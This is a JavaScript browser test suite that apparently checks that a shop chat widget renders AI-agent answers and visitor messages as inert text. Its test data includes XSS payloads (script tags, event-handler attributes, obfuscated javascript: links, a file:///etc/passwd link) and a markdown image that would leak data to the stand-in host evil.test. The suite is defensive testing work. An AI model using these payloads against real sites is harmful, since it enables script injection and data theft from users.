// XS-01…04: the agent's words are not trusted. Whatever they say, they are text.

import assert from 'node:assert/strict';
import { answerWith } from './support/fake-n8n.js';
import { policyViolations } from './support/policy.js';
import { openStage } from './support/stage.js';
import { visit } from './support/visit.js';

const stage = openStage();

/** Nothing of our own may break the policy, and no host but the shop's and ours may be asked. */
async function withHarmlessAnswer(scene, markdown, inspect) {
  const { context, page, chat, heard } = scene;
  const violations = await policyViolations(context);
  const dialogs = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    return dialog.dismiss();
  });
  await page.goto(stage.shop.origin);
  await chat.open();
  await chat.askAndWait(answerWith(markdown));
  await inspect(await chat.innerFrame(), violations);
  assert.deepEqual(dialogs, []);
  assert.deepEqual(violations(), []);
  assert.deepEqual(strangers(heard), []);
}

function strangers(heard) {
  const ours = [stage.shop.origin, stage.proxy.origin, 'data:', 'about:'];
  return heard.requests.map(({ url }) => url).filter((url) => !ours.some((known) => url.startsWith(known)));
}

const built = (frame, selector) => frame.locator(`.answer-text :is(${selector})`).count();

visit('XS-01: HTML in an answer is inert text', stage, async (scene) => {
  const html = [
    'Before <script>window.broken = 1; top.postMessage("broken", "*")</script> after',
    '',
    '<img src="https://evil.test/a.png" onerror="window.broken = 1">',
    '',
    '<iframe src="https://evil.test/"></iframe><object data="https://evil.test/"></object>',
    '',
    '<style>* { display: none; background: url(https://evil.test/style) }</style>',
    '<link rel="stylesheet" href="https://evil.test/style.css"><base href="https://evil.test/">',
    '',
    '<form action="https://evil.test/"><input name="card" autofocus onfocus="window.broken = 1"></form>',
    '<svg onload="window.broken = 1"><animate onbegin="window.broken = 1"></svg><details ontoggle="x">',
    '',
    '| <b>head</b> | x |',
    '|---|---|',
    '| <img src=x onerror=alert(1)> | `<script>alert(1)</script>` |',
    '',
    '```html',
    '</code></pre><script>alert(1)</script>',
    '```',
  ].join('\n');
  await withHarmlessAnswer(scene, html, async (frame) => {
    const forbidden =
      'script, img, iframe, object, embed, style, link, base, form, input, details, animate, b';
    assert.equal(await built(frame, forbidden), 0);
    assert.equal(
      await built(frame, '[onerror], [onload], [onfocus], [ontoggle], [onbegin], [style], [src]'),
      0,
    );
    const text = await scene.chat.panel.answers.innerText();
    for (const part of ['<script>', '<img src=', '<iframe', '<style>', '<form', '</code></pre><script>']) {
      assert.ok(text.includes(part), `${part} is shown as text: ${text}`);
    }
    assert.equal(await frame.evaluate(() => window.broken), undefined);
    assert.equal(await scene.page.evaluate(() => window.broken), undefined);
  });
});

visit('XS-02: an answer links to no script, no data and no relative address', stage, async (scene) => {
  const targets = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'javascript&colon;alert(1)',
    '&#106;avascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
    'file:///etc/passwd',
    'blob:https://evil.test/1',
    '/api/v1/session/end',
    '//evil.test/',
  ];
  const markdown = targets.map((target, index) => `- [link ${index}](${target})`).join('\n');
  await withHarmlessAnswer(scene, `${markdown}\n- [good](https://shop.test/)`, async (frame) => {
    const links = await frame.locator('.answer-text a[href]').evaluateAll((all) => all.map((a) => a.href));
    // The last is the control: the same list does make a link of a good address.
    assert.deepEqual(links, ['https://shop.test/']);
    await frame.locator('.answer-text').getByText('link 0').click();
    assert.equal(scene.context.pages().length, 1);
  });
});

visit('XS-03: an image in an answer is asked for nowhere', stage, async (scene) => {
  const markdown = [
    'Look ![secret](https://evil.test/?d=secret) here',
    '',
    '![ref][1] [![inside](https://evil.test/inside.png)](https://shop.test/)',
    '',
    `![ours](${stage.proxy.origin}/widget/embed.js)`,
    '',
    '[1]: https://evil.test/ref.png',
  ].join('\n');
  await withHarmlessAnswer(scene, markdown, async (frame, violations) => {
    assert.equal(await built(frame, 'img, picture, video, audio, [src], [srcset], [style]'), 0);
    // Control: an image that was asked for would be stopped, and this test would know.
    assert.deepEqual(violations(), []);
    assert.deepEqual(strangers(scene.heard), []);
    await frame.evaluate(() => {
      new Image().src = 'https://evil.test/control';
    });
    assert.equal((await violations.first()).blockedURI, 'https://evil.test/control');
    violations.clear();
    scene.heard.requests.length = 0;
  });
});

visit('XS-04: a link opens a new tab that knows nothing of the chat', stage, async (scene) => {
  stage.shop.pages['/landing'] = '<!doctype html><title>Landing</title><p>Here</p>';
  const target = `${stage.shop.origin}/landing`;
  const markdown = `See [the landing page](${target}), ${target}?raw or [write](mailto:shop@shop.test) or [call](tel:+123)`;
  await withHarmlessAnswer(scene, markdown, async (frame) => {
    const links = await frame
      .locator('.answer-text a')
      .evaluateAll((all) => all.map(({ protocol, target, rel }) => ({ protocol, target, rel })));
    assert.equal(links.length, 4);
    for (const link of links) {
      assert.equal(link.target, '_blank');
      assert.deepEqual(link.rel.split(' ').sort(), ['noopener', 'noreferrer']);
    }
    assert.deepEqual(links.map(({ protocol }) => protocol).sort(), ['http:', 'http:', 'mailto:', 'tel:']);
    const opened = scene.context.waitForEvent('page');
    await frame.locator('.answer-text a').first().click();
    const tab = await opened;
    await tab.waitForURL(target);
    assert.deepEqual(await tab.evaluate(() => [window.opener, document.referrer]), [null, '']);
  });
});

visit('the visitor’s own words are text, too', stage, async (scene) => {
  const { page, chat, heard } = scene;
  await page.goto(`${stage.shop.origin}/?q=%3Cimg%20src=x%3E`);
  await chat.open();
  const words = '<img src=https://evil.test/me onerror="window.broken = 1"> [x](javascript:alert(1)) #echo';
  await chat.askAndWait(words);
  assert.equal(await chat.panel.questions.innerText(), words);
  assert.equal(await chat.panel.questions.locator('*').count(), 0);
  assert.deepEqual(strangers(heard), []);
});
